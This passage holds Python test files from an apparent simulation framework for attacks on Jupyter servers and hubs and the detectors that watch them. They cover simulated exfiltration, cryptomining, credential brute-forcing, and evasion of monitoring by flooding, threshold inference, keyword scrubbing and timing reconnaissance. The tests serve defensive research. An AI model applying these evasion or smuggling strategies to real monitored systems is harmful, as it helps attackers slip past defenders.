        LowAndSlowExfiltration(bytes_per_burst=2000, interval_seconds=10,
                               total_bytes=60_000).run(sc)
        assert "EXFIL_CUSUM_DRIFT" in sc.monitor.logs.notice_names()

    def test_output_smuggling_exact_bytes(self):
        sc = build_scenario(seed=15)
        result = OutputSmugglingAttack().run(sc)
        assert result.success
        assert result.metrics["bytes_exfiltrated"] == 20_000

    def test_output_smuggling_invisible_to_egress_detector(self):
        sc = build_scenario(seed=16)
        OutputSmugglingAttack().run(sc)
        assert "EXFIL_VOLUME" not in sc.monitor.logs.notice_names()


class TestMining:
    def test_miner_runs_and_burns_cpu(self):
        sc = build_scenario(seed=20)
        result = CryptominingAttack(rounds=10, hashes_per_round=300).run(sc)
        assert result.success
        assert Concern.DISRUPTION_OF_COMPUTING in result.observed_concerns
        assert result.metrics["cpu_seconds"] > 1.0
        assert result.metrics["pool_messages"] >= 10

    def test_miner_all_three_detection_planes(self):
        sc = build_scenario(seed=21)
        CryptominingAttack(rounds=10, hashes_per_round=300, beacon_interval=30).run(sc)
        names = set(sc.monitor.logs.notice_names())
        auditor = next(iter(sc.auditors.values()))
        assert "SIG-MINER-POOL" in names                      # signature plane
        assert "MINER_BEACON" in names                        # traffic plane
        assert "POLICY_MINER_SHAPE" in auditor.notice_names()  # audit plane

    def test_stealth_miner_evades_signatures_not_behaviour(self):
        sc = build_scenario(seed=22)
        CryptominingAttack(rounds=10, hashes_per_round=300,
                           stealth_no_keywords=True).run(sc)
        names = set(sc.monitor.logs.notice_names())
        auditor = next(iter(sc.auditors.values()))
        assert "SIG-MINER-POOL" not in names                  # keywords scrubbed
        assert "MINER_BEACON" in names                        # timing survives
        assert "POLICY_MINER_SHAPE" in auditor.notice_names()  # structure survives


class TestTakeover:
    def test_bruteforce_fails_against_strong_token(self):
        sc = build_scenario()  # default strong token
        result = TokenBruteforceAttack().run(sc)
        assert not result.success
        assert "AUTH_BRUTEFORCE" in sc.monitor.logs.notice_names()

    def test_bruteforce_succeeds_against_weak_token(self):
        sc = build_scenario(config=ServerConfig(ip="0.0.0.0", token="admin"))
        result = TokenBruteforceAttack(delay=0.1).run(sc)
        assert result.success
        assert result.metrics["token_found"] == "admin"
        assert Concern.EXPOSED_DATA in result.observed_concerns

    def test_credential_stuffing_against_weak_password(self):
        cfg = ServerConfig(ip="0.0.0.0", token="",
                           password_hash=hash_password("hunter2", rounds=100))
        sc = build_scenario(config=cfg)
        result = CredentialStuffingAttack(delay=0.2).run(sc)
        assert result.success

    def test_credential_stuffing_fails_against_strong_password(self):
        cfg = ServerConfig(ip="0.0.0.0", token="",
                           password_hash=hash_password("X9$v!qT2#mK8@pL4", rounds=100))
        sc = build_scenario(config=cfg)
        assert not CredentialStuffingAttack(delay=0.2).run(sc).success

    def test_stolen_token_quiet_but_new_source_fires(self):
        sc = build_scenario(seed=30)
        sc.monitor.newsource.learning_until = 0.0  # learning done before attack
        # Baseline: the legitimate user logs in first from the campus IP.
        sc.monitor.newsource._known.add(sc.user_host.ip)
        result = StolenTokenAttack().run(sc)
        assert result.success
        assert "AUTH_BRUTEFORCE" not in sc.monitor.logs.notice_names()
        assert "NEW_SOURCE_LOGIN" in sc.monitor.logs.notice_names()


class TestMisconfig:
    def test_scan_finds_open_server_and_is_detected(self):
        sc = build_scenario(config=insecure_demo_config())
        result = OpenServerScanAttack(probe_delay=0.05).run(sc)
        assert result.success
        assert any("10.0.0.10" in s for s in result.metrics["servers_found"])
        assert "PORT_SCAN" in sc.monitor.logs.notice_names()

    def test_exploit_open_server_full_compromise(self):
        sc = build_scenario(config=insecure_demo_config())
        result = OpenServerExploitAttack().run(sc)
        assert result.success
        assert result.metrics["code_execution"]
        assert Concern.EXPOSED_DATA in result.observed_concerns
        assert Concern.DISRUPTION_OF_COMPUTING in result.observed_concerns

    def test_exploit_fails_against_hardened_server(self):
        sc = build_scenario()  # token required
        result = OpenServerExploitAttack().run(sc)
        assert not result.success


class TestZeroDay:
    def test_signatureless_by_construction(self):
        sc = build_scenario(seed=40)
        result = ZeroDayAttack(exfil_bytes=5000).run(sc)
        assert result.success
        sig_notices = [n for n in sc.monitor.logs.notices if n.detector == "signature"]
        assert sig_notices == []

    def test_behavioural_footprints_still_observable(self):
        sc = build_scenario(seed=41)
        result = ZeroDayAttack(exfil_bytes=2_000_000).run(sc)
        assert Concern.EXPOSED_DATA in result.observed_concerns
        assert "EXFIL_VOLUME" in sc.monitor.logs.notice_names()


class TestEvasion:
    def test_flood_forces_drops_on_budgeted_monitor(self):
        sc = build_scenario(monitor_budget=20)
        result = MonitorFloodAttack().run(sc)
        assert result.success
        assert result.metrics["segments_dropped"] > 0

    def test_flood_harmless_against_unbudgeted_monitor(self):
        sc = build_scenario()  # unlimited budget
        result = MonitorFloodAttack().run(sc)
        assert not result.success

    def test_rule_inference_recovers_threshold(self):
        sc = build_scenario(seed=50)
        result = RuleInferenceAttack().run(sc)
        assert result.success
        assert result.metrics["relative_error"] < 0.05
        assert result.metrics["probes"] < 30  # log2 search, not brute force


class TestResultBookkeeping:
    def test_results_accumulate_on_scenario(self):
        sc = build_scenario(seed=60)
        ExfiltrationAttack().run(sc)
        CryptominingAttack(rounds=3, hashes_per_round=100).run(sc)
        assert [r.attack for r in sc.results] == ["data-exfiltration", "cryptomining"]
        assert all(r.finished >= r.started for r in sc.results)

    def test_avenue_tags_match_taxonomy(self):
        from repro.taxonomy import JUPYTER_OSCRP

        sc = build_scenario(seed=61)
        result = ExfiltrationAttack().run(sc)
        declared = JUPYTER_OSCRP.concerns_for(result.avenue)
        assert result.observed_concerns <= declared
