"""Tests for the traffic-analysis side-channel subsystem (PR 9).

Three sides under test: the attacker's :class:`TrafficFingerprinter`
(timing recon over the attack-surface view), the defender's
:class:`TrafficPatternDetector` (induced-probe cadence at the tap), and
the :class:`PaddingPolicy` countermeasure compiled into the proxy —
plus the reproducibility contracts every subsystem in this repo keeps:
same seed, same bytes; telemetry on or off, same world.
"""

import json
from dataclasses import replace

import pytest

from repro.adversary.view import AttackSurfaceView
from repro.eval.metrics import decoy_flagging, shard_map_accuracy
from repro.hub.users import insecure_hub_config
from repro.topology import (
    TelemetrySpec,
    WorldBuilder,
    list_presets,
    spec_preset,
)
from repro.traffic import (
    PaddingPolicy,
    ProbeTemplate,
    ResponsePadder,
    TrafficFingerprinter,
    TrafficPatternDetector,
)
from repro.util.rng import DeterministicRNG
from repro.wire.http import HttpResponse

SEED = 7  # the EXP-TRAFFIC seed; gates below match the CLI matrix


# -- padding policy -----------------------------------------------------------

class TestPaddingPolicy:
    def test_bucket_math(self):
        policy = PaddingPolicy(bucket_bytes=1024)
        assert policy.bucket_of(1) == 1024
        assert policy.bucket_of(1024) == 1024
        assert policy.bucket_of(1025) == 2048
        # Empty bodies pad too: zero-length is itself a distinctive size.
        assert policy.bucket_of(0) == 1024

    def test_validation(self):
        with pytest.raises(ValueError):
            PaddingPolicy(bucket_bytes=0)
        with pytest.raises(ValueError):
            PaddingPolicy(max_jitter=0.9)
        with pytest.raises(ValueError):
            PaddingPolicy(max_jitter=-0.1)

    def test_padding_needs_a_hub_topology(self):
        spec = spec_preset("single-server")
        with pytest.raises(ValueError):
            replace(spec, padding=PaddingPolicy())

    def test_padded_presets_registered(self):
        names = list_presets()
        for name in ("padded-hub", "padded-sharded-hub-geo",
                     "defended-padded-hub",
                     "defended-padded-sharded-hub-geo"):
            assert name in names
        assert spec_preset("padded-hub").padding == PaddingPolicy()
        assert spec_preset("defended-padded-hub").defended


class TestResponsePadder:
    def _padder(self, policy=None, seed=1):
        return ResponsePadder(policy or PaddingPolicy(),
                              DeterministicRNG(seed).child("padding:test"))

    def test_pads_to_bucket_and_stays_json(self):
        padder = self._padder()
        original = HttpResponse(200, "OK", {"Content-Length": "17"},
                                b'{"status": "idle"}')
        padded = padder.pad(original)
        assert len(padded.body) == 1024
        assert json.loads(padded.body) == {"status": "idle"}
        # New object; the original (possibly shared) response untouched.
        assert original.body == b'{"status": "idle"}'
        # The stale explicit length is dropped; encode() recomputes.
        assert b"Content-Length: 1024" in padded.encode()

    def test_exact_bucket_passes_through(self):
        padder = self._padder(PaddingPolicy(bucket_bytes=16))
        resp = HttpResponse(200, "OK", {}, b"x" * 16)
        assert padder.pad(resp) is resp
        assert padder.padded_responses == 0

    def test_jitter_bounded_and_deterministic(self):
        a, b = self._padder(seed=3), self._padder(seed=3)
        draws_a = [a.jitter() for _ in range(32)]
        draws_b = [b.jitter() for _ in range(32)]
        assert draws_a == draws_b
        assert all(0.0 <= d <= PaddingPolicy().max_jitter for d in draws_a)
        assert a.summary()["jittered_responses"] == 32


# -- the cell-pattern defender ------------------------------------------------

class TestTrafficPatternDetector:
    def _train(self, detector, *, n, gap=1.5, src="203.0.113.66",
               path="/user/alice/api/status", size=120, t0=0.0):
        notice = None
        for i in range(n):
            got = detector.observe_request(t0 + i * gap, src, path, size)
            notice = got or notice
        return notice

    def test_fires_on_metronomic_train(self):
        detector = TrafficPatternDetector()
        notice = self._train(detector, n=6)
        assert notice is not None
        assert notice.name == "TRAFFIC_PATTERN"
        assert notice.severity == "high"
        assert notice.src == "203.0.113.66"
        assert notice.detail["gap_cv"] <= detector.cv_max
        assert notice.detail["template"] == "status-probe"

    def test_silent_below_min_train(self):
        detector = TrafficPatternDetector()
        assert self._train(detector, n=5) is None

    def test_irregular_cadence_does_not_fire(self):
        detector = TrafficPatternDetector()
        gaps = [0.3, 2.9, 0.9, 4.1, 1.2, 7.7, 0.4]
        ts, notice = 0.0, None
        for gap in gaps:
            ts += gap
            got = detector.observe_request(ts, "203.0.113.66",
                                           "/user/alice/api/status", 120)
            notice = got or notice
        assert notice is None

    def test_varied_sizes_do_not_fire(self):
        detector = TrafficPatternDetector(size_jitter_bytes=16)
        ts, notice = 0.0, None
        for i in range(8):
            ts += 1.5
            got = detector.observe_request(ts, "203.0.113.66",
                                           "/user/alice/api/status",
                                           100 + 40 * (i % 2))
            notice = got or notice
        assert notice is None

    def test_non_template_request_resets_the_train(self):
        detector = TrafficPatternDetector()
        assert self._train(detector, n=5) is None
        # A big POST in the middle is not probe traffic: train clears.
        detector.observe_request(10.0, "203.0.113.66",
                                 "/api/contents/data.csv", 40_000,
                                 method="PUT")
        assert self._train(detector, n=5, t0=12.0) is None

    def test_template_shapes(self):
        t = ProbeTemplate()
        assert t.matches("GET", "/hub/api", 90)
        assert t.matches("GET", "/user/bob/api/status", 120)
        assert not t.matches("POST", "/user/bob/api/status", 120)
        assert not t.matches("GET", "/user/bob/api/contents", 120)
        assert not t.matches("GET", "/hub/api", 4096)


# -- the fingerprinter, end to end --------------------------------------------

def _recon(spec):
    scenario = WorldBuilder().build(spec)
    view = AttackSurfaceView(scenario)
    verdict = TrafficFingerprinter(view).run(
        source=scenario.attacker_host, token=scenario.token)
    return scenario, view, verdict


def _accuracy(scenario, verdict):
    label_map = {f"door{i}": s.name for i, s in enumerate(scenario.shards)}
    return shard_map_accuracy(verdict.shard_map,
                              scenario.shard_assignment(), label_map)


class TestTimingReconEndToEnd:
    def test_clean_world_full_recovery_with_zero_403s(self):
        spec = spec_preset("sharded-hub-geo", seed=SEED,
                           decoy_names=("admin",))
        scenario, view, verdict = _recon(spec)
        assert _accuracy(scenario, verdict) == 1.0
        flag = decoy_flagging(verdict.suspected_decoys,
                              scenario.decoy_tenant_names)
        assert flag == {"suspected": 1, "decoys": 1,
                        "precision": 1.0, "recall": 1.0}
        assert verdict.denied == 0 and verdict.blocked == 0
        assert not verdict.contained
        # Satellite: every answered probe carries its SimClock delta.
        ok_events = [e for e in view.events if e.kind == "ok"]
        assert ok_events and all(e.elapsed > 0 for e in ok_events)
        assert all(e.resp_bytes > 0 for e in ok_events)

    def test_decoy_signature_is_the_service_time_residual(self):
        spec = spec_preset("sharded-hub-geo", seed=SEED,
                           decoy_names=("admin",))
        scenario, _, verdict = _recon(spec)
        decoy_latency = scenario.spec.hub.decoy_tenants[0].service_latency
        assert verdict.residuals["admin"] == pytest.approx(
            decoy_latency + 2 * spec.default_latency + 0.008, abs=0.02)
        # Real tenants carry only the backend hop.
        for tenant, residual in verdict.residuals.items():
            if tenant != "admin":
                assert residual < 0.014

    def test_padded_world_defeats_the_recon(self):
        spec = spec_preset("padded-sharded-hub-geo", seed=SEED)
        scenario, _, verdict = _recon(spec)
        assert _accuracy(scenario, verdict) <= 0.5
        # Padding is passive: the attacker is degraded, never blocked.
        assert verdict.denied == 0 and verdict.blocked == 0

    def test_defended_world_contains_the_recon_off_traffic_pattern(self):
        spec = spec_preset("defended-padded-sharded-hub-geo", seed=SEED,
                          decoy_names=(), hub_config=insecure_hub_config())
        scenario, _, verdict = _recon(spec)
        assert verdict.contained and verdict.blocked >= 1
        pattern = [n for s in scenario.shards
                   for n in s.monitor.logs.notices
                   if n.name == "TRAFFIC_PATTERN"]
        assert pattern and pattern[0].severity == "high"
        actions = [(a.rule, a.action) for a in scenario.soc.executed]
        assert ("block-hostile-source", "block_source") in actions

    def test_decoy_world_burns_recon_through_intel(self):
        """With decoys present the honeypot-intel path wins the race:
        the recon's very first tenant train touches the bait."""
        spec = spec_preset("defended-padded-sharded-hub-geo", seed=SEED)
        scenario, _, verdict = _recon(spec)
        assert verdict.contained
        assert any(a.rule == "intel-auto-block"
                   for a in scenario.soc.executed)

    def test_locked_down_hub_yields_denials_not_crashes(self):
        # Secure config and no stolen credential: the tenant trains all
        # 403 at the proxy.  The recon records plain denials (never
        # "contained" — nothing blocked the source) and stops after one
        # all-denied train instead of burning requests on the rest.
        spec = spec_preset("sharded-hub-geo", seed=SEED)
        scenario = WorldBuilder().build(spec)
        view = AttackSurfaceView(scenario)
        verdict = TrafficFingerprinter(view).run(
            source=scenario.attacker_host, token="",
            tenants=["user00", "user01", "user02"])
        assert verdict.denied > 0 and verdict.blocked == 0
        assert not verdict.contained
        assert len(verdict.readings) == 1


class TestReproducibility:
    def test_same_seed_same_verdict_bytes(self):
        spec = spec_preset("padded-sharded-hub-geo", seed=SEED)
        _, _, a = _recon(spec)
        _, _, b = _recon(spec)
        assert a.to_dict() == b.to_dict()
        assert json.dumps(a.to_dict(), sort_keys=True) == \
            json.dumps(b.to_dict(), sort_keys=True)

    def test_telemetry_does_not_perturb_the_verdict(self):
        spec = spec_preset("defended-padded-sharded-hub-geo", seed=SEED,
                          decoy_names=(), hub_config=insecure_hub_config())
        spec_off = replace(spec, telemetry=TelemetrySpec(enabled=False))
        s_on, _, v_on = _recon(spec)
        s_off, _, v_off = _recon(spec_off)
        assert not s_off.telemetry.enabled and s_on.telemetry.enabled
        assert v_on.to_dict() == v_off.to_dict()
        names_on = [n.name for s in s_on.shards
                    for n in s.monitor.logs.notices]
        names_off = [n.name for s in s_off.shards
                     for n in s.monitor.logs.notices]
        assert names_on == names_off

    def test_unpadded_worlds_unchanged_by_the_padding_plumbing(self):
        """A spec without padding builds proxies with no padder at all —
        the RNG stream and response path match pre-PR worlds."""
        scenario = WorldBuilder().build(spec_preset("hub", seed=SEED))
        assert scenario.proxy.padder is None


# -- satellite: per-route latency histograms ----------------------------------

class TestProxyLatencyHistogram:
    def test_histogram_present_with_route_labels(self):
        scenario = WorldBuilder().build(spec_preset("hub", seed=SEED))
        client = scenario.user_client(username="user00")
        assert client.request("GET", "/api/status").status == 200
        assert client.request("GET", "/hub/api").status == 200
        fam = scenario.telemetry.registry.get("proxy_request_seconds")
        assert fam is not None and fam.type == "histogram"
        routes = {dict(s.labels).get("route") for s in fam.samples()}
        assert "user00" in routes and "hub" in routes
        counts = [s.value for s in fam.samples()
                  if s.name.endswith("_count")]
        assert sum(counts) >= 2

    def test_zero_cost_when_telemetry_off(self):
        spec = replace(spec_preset("hub", seed=SEED),
                       telemetry=TelemetrySpec(enabled=False))
        scenario = WorldBuilder().build(spec)
        client = scenario.user_client(username="user00")
        assert client.request("GET", "/api/status").status == 200
        assert scenario.proxy._lat_hist is None
        assert scenario.proxy._lat_children == {}
