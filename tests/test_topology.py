"""Tests for the declarative topology layer: specs, builder, presets,
consistent-hash sharding, the merged fleet monitor view, honeypot
tenants, and the topology CLI."""

import json

import pytest

from repro.attacks import CrossTenantPivotAttack, RansomwareAttack, StolenTokenAttack
from repro.attacks.scenario import Scenario, build_scenario
from repro.hub import HubScenario, build_hub_scenario, insecure_hub_config
from repro.simnet import FilteredTap, Network, Segment
from repro.topology import (
    ConsistentHashRing,
    FleetMonitorView,
    HoneypotHubScenario,
    LinkSpec,
    ShardedHoneypotHubScenario,
    ShardedHubScenario,
    WorldBuilder,
    WorldSpec,
    defend,
    hub_spec,
    list_presets,
    register_preset,
    resolve_spec,
    sharded_hub_geo_spec,
    sharded_hub_spec,
    single_server_spec,
    spec_preset,
)
from repro.topology.spec import HostSpec, HubSpec, ServerSpec, SinkSpec
from repro.workload import ScientistWorkload


class TestSpecs:
    def test_presets_registered(self):
        assert list_presets() == [
            "adaptive-honeypot-hub", "adaptive-hub", "adaptive-sharded-hub",
            "adaptive-sharded-hub-geo",
            "defended-honeypot-hub", "defended-hub",
            "defended-padded-hub", "defended-padded-sharded-hub-geo",
            "defended-sharded-hub", "defended-sharded-hub-geo",
            "honeypot-hub", "hub",
            "padded-hub", "padded-sharded-hub-geo",
            "sharded-honeypot-hub", "sharded-hub",
            "sharded-hub-geo", "single-server",
        ]

    def test_kind_reflects_shape(self):
        assert single_server_spec().kind == "single-server"
        assert hub_spec().kind == "hub"
        assert sharded_hub_spec().kind == "sharded-hub"
        assert spec_preset("honeypot-hub").kind == "honeypot-hub"

    def test_exactly_one_of_server_or_hub(self):
        with pytest.raises(ValueError):
            WorldSpec(name="neither")
        with pytest.raises(ValueError):
            WorldSpec(name="both", server=ServerSpec(), hub=HubSpec())

    def test_duplicate_sink_keys_rejected(self):
        with pytest.raises(ValueError):
            WorldSpec(name="dup", server=ServerSpec(),
                      sinks=(SinkSpec("s"), SinkSpec("s", HostSpec("x", "9.9.9.9"))))

    def test_standard_sinks_must_be_present(self):
        with pytest.raises(ValueError, match="exfil_sink"):
            WorldSpec(name="nosinks", server=ServerSpec(),
                      sinks=(SinkSpec("c2_sink"),))

    def test_hub_needs_tenants(self):
        with pytest.raises(ValueError):
            WorldSpec(name="empty", hub=HubSpec(n_tenants=0))

    def test_resolve_spec_accepts_name_or_spec(self):
        spec = single_server_spec(seed=7)
        assert resolve_spec(spec) is spec
        assert resolve_spec("hub").kind == "hub"
        with pytest.raises(KeyError):
            resolve_spec("no-such-topology")

    def test_register_preset_rejects_collisions(self):
        with pytest.raises(ValueError):
            register_preset("hub", hub_spec)


class TestBuilderFacades:
    def test_build_scenario_is_a_compiled_spec(self):
        s = build_scenario(seed=11, seed_data=False)
        assert s.spec is not None and s.spec.kind == "single-server"
        assert sorted(s.network.hosts) == ["attacker", "exfil-sink", "jupyter",
                                           "laptop", "mining-pool"]
        assert s.sinks["exfil_sink"] is s.exfil_sink
        assert s.sinks["mining_pool"] is s.mining_pool

    def test_hub_scenario_is_a_compiled_spec(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        assert s.spec is not None and s.spec.kind == "hub"
        assert type(s) is HubScenario

    def test_scenario_build_is_a_real_classmethod(self):
        # The old monkey-patched staticmethod alias is gone.
        assert isinstance(Scenario.__dict__["build"], classmethod)
        s = Scenario.build(seed=3, seed_data=False)
        assert type(s) is Scenario
        h = HubScenario.build(n_tenants=2, seed_data=False)
        assert type(h) is HubScenario

    def test_same_spec_same_seed_same_world(self):
        spec = spec_preset("hub", n_tenants=2, seed=99, seed_data=False)
        a = WorldBuilder().build(spec)
        b = WorldBuilder().build(spec)
        assert a.token == b.token
        assert [(s.host.name, s.port) for s in a.spawner.active.values()] == \
               [(s.host.name, s.port) for s in b.spawner.active.values()]

    def test_builder_overrides_do_not_mutate_spec(self):
        spec = single_server_spec(seed=1)
        s = WorldBuilder().build(spec, seed=2, monitor_budget=50.0,
                                 seed_data=False)
        assert spec.seed == 1 and spec.monitor.budget_events_per_second == 0.0
        assert s.spec.seed == 2
        assert s.monitor.budget == 50.0
        assert s.server.fs.file_count() == 0

    def test_attack_runs_on_compiled_single_server(self):
        s = WorldBuilder().build(single_server_spec(seed=5))
        result = RansomwareAttack(via="kernel").run(s)
        assert result.success

    def test_decoys_on_sharded_hub_route_per_shard(self):
        """The sharded + decoy combination (once rejected) compiles: each
        decoy's static route lives on exactly the shard its name hashes
        to — the same front door a real tenant of that name would use."""
        spec = spec_preset("sharded-honeypot-hub", seed=31, seed_data=False)
        assert spec.kind == "sharded-honeypot-hub"
        s = WorldBuilder().build(spec)
        assert isinstance(s, ShardedHoneypotHubScenario)
        assert isinstance(s, ShardedHubScenario)
        assert s.decoy_tenant_names == ["admin", "svc-backup"]
        for name in s.decoy_tenant_names:
            home = s.shard_for(name)
            for shard in s.shards:
                routed = name in shard.proxy.routes
                assert routed == (shard is home), (name, shard.name)
        # The decoy answers through its own front door, like any tenant.
        from repro.server.gateway import WebSocketKernelClient

        decoy_shard = s.shard_for("admin")
        client = WebSocketKernelClient(
            s.attacker_host, decoy_shard.host, port=s.proxy.config.port,
            token="", username="sweep", path_prefix="/user/admin")
        assert client.request("GET", "/api/contents/").status == 200
        assert any(r.source_ip == s.attacker_host.ip
                   for d in s.decoys for r in d.records)


class TestFilteredTap:
    def test_only_matching_segments_observed(self):
        tap = FilteredTap("t", only_ips=("10.0.0.2",))
        seen = []
        tap.subscribe(seen.append)
        tap.observe(Segment(0.0, "10.0.0.2", 1, "9.9.9.9", 2, b"x"))
        tap.observe(Segment(0.0, "9.9.9.9", 1, "10.0.0.2", 2, b"y"))
        tap.observe(Segment(0.0, "9.9.9.9", 1, "8.8.8.8", 2, b"z"))
        assert [s.payload for s in seen] == [b"x", b"y"]

    def test_empty_filter_sees_all(self):
        tap = FilteredTap("t")
        tap.observe(Segment(0.0, "1.1.1.1", 1, "2.2.2.2", 2, b"x"))
        assert len(tap.segments) == 1

    def test_network_add_tap_with_filter(self):
        net = Network()
        tap = net.add_tap("edge", only_ips=["10.0.0.9"])
        assert isinstance(tap, FilteredTap)
        assert tap in net.taps


class TestConsistentHashRing:
    def test_deterministic_assignment(self):
        a = ConsistentHashRing(["s0", "s1", "s2"])
        b = ConsistentHashRing(["s0", "s1", "s2"])
        keys = [f"user{i:02d}" for i in range(50)]
        assert [a.node_for(k) for k in keys] == [b.node_for(k) for k in keys]

    def test_every_node_gets_keys(self):
        ring = ConsistentHashRing(["s0", "s1", "s2"])
        assigned = {ring.node_for(f"user{i:02d}") for i in range(100)}
        assert assigned == {"s0", "s1", "s2"}

    def test_adding_a_node_moves_only_some_keys(self):
        before = ConsistentHashRing(["s0", "s1", "s2"])
        after = ConsistentHashRing(["s0", "s1", "s2", "s3"])
        keys = [f"user{i:03d}" for i in range(200)]
        moved = sum(1 for k in keys if before.node_for(k) != after.node_for(k))
        # Consistent hashing: ~1/4 of keys move, never the majority.
        assert 0 < moved < 100

    def test_remove_node(self):
        ring = ConsistentHashRing(["s0", "s1"])
        ring.remove("s1")
        assert ring.nodes() == ["s0"]
        assert all(ring.node_for(f"k{i}") == "s0" for i in range(20))

    def test_empty_ring_rejected(self):
        with pytest.raises(ValueError):
            ConsistentHashRing([])


def sharded(n_shards=3, n_tenants=9, **kw):
    kw.setdefault("seed_data", False)
    return WorldBuilder().build(
        sharded_hub_spec(n_shards=n_shards, n_tenants=n_tenants, **kw))


class TestShardedHub:
    def test_users_routed_to_their_hash_assigned_shard(self):
        s = sharded()
        assert isinstance(s, ShardedHubScenario) and len(s.shards) == 3
        assignment = s.shard_assignment()
        assert set(assignment.values()) == {"shard0", "shard1", "shard2"}
        for name in s.tenant_names:
            client = s.user_client(username=name)
            assert client.request("GET", "/api/status").status == 200
        # Each shard's proxy served exactly its assigned users' requests.
        for shard in s.shards:
            expected = sum(1 for t, sh in assignment.items() if sh == shard.name)
            assert shard.proxy.stats.routed_total == expected

    def test_kernel_execute_through_a_shard(self):
        s = sharded(n_tenants=6)
        client = s.user_client(username="user03")
        client.start_kernel()
        client.connect_channels()
        reply = client.execute("6 * 7")
        assert reply is not None and reply.content["status"] == "ok"
        shard = s.shard_for("user03")
        assert shard.proxy.routes["user03"].ws_upgrades == 1

    def test_per_shard_taps_see_only_their_front_door(self):
        s = sharded(n_tenants=6)
        for name in s.tenant_names:
            s.user_client(username=name).request("GET", "/api/status")
        for shard in s.shards:
            ip = shard.host.ip
            assert shard.tap.segments, f"{shard.name} tap saw nothing"
            assert all(ip in (seg.src, seg.dst) for seg in shard.tap.segments)

    def test_cross_tenant_sweep_raises_in_merged_view(self):
        s = sharded(hub_config=insecure_hub_config())
        result = CrossTenantPivotAttack().run(s)
        assert result.success
        s.run(10.0)
        assert "CROSS_TENANT_SWEEP" in {n.name for n in s.monitor.logs.notices}

    def test_fleet_view_catches_sweep_no_single_shard_sees(self):
        """Spread thinly enough that no shard-local detector fires, the
        sweep is visible only in the merged fleet view."""
        s = sharded(n_tenants=5, hub_config=insecure_hub_config())
        per_shard = {}
        for tenant, shard in s.shard_assignment().items():
            per_shard.setdefault(shard, []).append(tenant)
        # Precondition of the scenario: <3 tenants behind every shard.
        assert max(len(v) for v in per_shard.values()) < 3
        for tenant in s.tenant_names:
            client = s.attacker_client(token="", tenant=tenant)
            client.request("GET", "/api/status")
            s.run(1.0)
        s.run(5.0)
        for shard in s.shards:
            assert "CROSS_TENANT_SWEEP" not in \
                {n.name for n in shard.monitor.logs.notices}
        merged = {n.name for n in s.monitor.logs.notices}
        assert "CROSS_TENANT_SWEEP" in merged

    def test_merged_logs_aggregate_shard_logs(self):
        s = sharded(n_tenants=6)
        for name in s.tenant_names:
            s.user_client(username=name).request("GET", "/api/status")
        counts = s.monitor.logs.counts()
        assert counts["http"] == sum(m.logs.counts()["http"]
                                     for m in s.monitor.monitors)
        assert counts["http"] > 0
        summary = s.monitor.summary()
        assert summary["shards"] == 3
        assert summary["health"]["segments"] > 0

    def test_single_server_attack_runs_unchanged_on_sharded_hub(self):
        s = WorldBuilder().build(sharded_hub_spec(n_shards=3, n_tenants=6, seed=21))
        assert StolenTokenAttack().run(s).success

    def test_evasion_attacks_run_on_fleet_view(self):
        """The merged view must duck-type the full monitor surface the
        attack suite touches (health, detector attributes, ...)."""
        from repro.attacks import MonitorFloodAttack, RuleInferenceAttack

        s = sharded(n_tenants=6, seed=23)
        MonitorFloodAttack().run(s)          # reads monitor.health
        result = RuleInferenceAttack().run(s)  # reads monitor.egress
        assert "inferred_threshold" in result.metrics or result.narrative

    def test_workload_on_sharded_hub(self):
        s = sharded(n_tenants=6, seed=22)
        report = ScientistWorkload(s, username="user01").run_session(cells=2)
        assert report.cells_executed == 2 and report.errors == 0

    def test_culler_reads_activity_across_shards(self):
        from repro.hub.users import HubConfig

        cfg = HubConfig(api_token="t", cull_idle_timeout=200.0, cull_interval=50.0)
        s = sharded(n_tenants=4, hub_config=cfg)
        active = s.tenant_names[0]
        client = s.user_client(username=active)
        for _ in range(4):
            s.run(60.0)
            client.request("GET", "/api/status")
        assert active in s.spawner.running()
        assert len(s.spawner.running()) < 4  # idle tenants reclaimed


def honeypot(**kw):
    kw.setdefault("seed_data", False)
    return WorldBuilder().build(spec_preset("honeypot-hub", **kw))


class TestHoneypotHub:
    def test_decoy_tenants_listed_like_real_ones(self):
        s = honeypot(n_tenants=2)
        assert isinstance(s, HoneypotHubScenario)
        client = s.user_client(username="user00")
        listing = client.json("GET", "/hub/api/users")
        names = [u["name"] for u in listing]
        assert names == ["admin", "svc-backup", "user00", "user01"]
        assert all(u["server_running"] for u in listing)

    def test_pivot_burns_on_decoys_first(self):
        s = honeypot(n_tenants=2)
        result = CrossTenantPivotAttack().run(s)
        assert result.success
        ip = s.attacker_host.ip
        first_decoy = s.first_decoy_contact(ip)
        first_real = s.first_real_contact(ip)
        assert first_decoy is not None
        assert first_real is None or first_decoy < first_real

    def test_decoy_interactions_feed_honeypot_intel(self):
        s = honeypot(n_tenants=2)
        CrossTenantPivotAttack().run(s)
        intel = s.harvest_intel()
        assert intel["decoy_interactions"] > 0
        assert intel["new_burned_sources"] >= 1
        burned = [i for i in s.fleet.feed.indicators.values()
                  if i.indicator_type == "source-ip"]
        assert any(i.pattern == s.attacker_host.ip for i in burned)

    def test_decoy_records_attribute_the_proxied_attacker(self):
        s = honeypot(n_tenants=2)
        CrossTenantPivotAttack().run(s)
        sources = {r.source_ip for r in s.decoy_interactions() if r.kind == "http"}
        assert s.attacker_host.ip in sources
        assert s.proxy.host.ip not in sources  # XFF, not the relay hop

    def test_harvest_is_idempotent_per_source(self):
        s = honeypot(n_tenants=2)
        CrossTenantPivotAttack().run(s)
        first = s.harvest_intel()
        second = s.harvest_intel()
        assert first["new_burned_sources"] >= 1
        assert second["new_burned_sources"] == 0


class TestGeoLatency:
    def test_geo_preset_applies_link_overrides(self):
        s = WorldBuilder().build(sharded_hub_geo_spec(seed=17, seed_data=False))
        net = s.network
        laptop, attacker = net.hosts["laptop"], net.hosts["attacker"]
        spec_links = {frozenset((l.a, l.b)): l.latency for l in s.spec.links}
        for (pair, latency) in spec_links.items():
            a, b = (net.hosts[name] for name in pair)
            assert net.latency(a, b) == latency
        # The structure is asymmetric by design: the user is closest to
        # shard0, the attacker to shard2; untouched links keep defaults.
        assert net.latency(laptop, net.hosts["hub0"]) < \
            net.latency(laptop, net.hosts["hub2"])
        assert net.latency(attacker, net.hosts["hub2"]) < \
            net.latency(attacker, net.hosts["hub0"])
        assert net.latency(net.hosts["hub0"], net.hosts["node00"]) == \
            s.spec.default_latency

    def test_geo_latency_visible_in_request_timing(self):
        s = WorldBuilder().build(sharded_hub_geo_spec(seed=17, seed_data=False))
        from repro.server.gateway import WebSocketKernelClient

        def rtt(shard_host):
